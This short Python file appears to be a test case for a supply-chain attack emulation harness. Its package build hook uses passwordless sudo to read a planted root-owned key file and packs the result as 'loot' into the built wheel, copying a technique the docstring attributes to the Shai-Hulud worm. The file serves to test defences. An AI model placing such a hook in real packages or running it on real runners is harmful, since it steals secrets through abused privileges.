"""Has sudo read a file of root's, as a job on a hosted runner may.

No password is asked for. Shai-Hulud's second wave became root on runners this way, and
edited what names are resolved by and who may use sudo.
"""

import subprocess

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("run-sudo"):
        command = [kit.plant("sudo").path, "-n", "cat", kit.plant("key").path]
        answer = subprocess.run(
            command, stdout=subprocess.PIPE, timeout=kit.seconds(5), check=False
        )
        loot["data.bin"] = answer.stdout
    return kit.wheel(wheel_directory, loot)
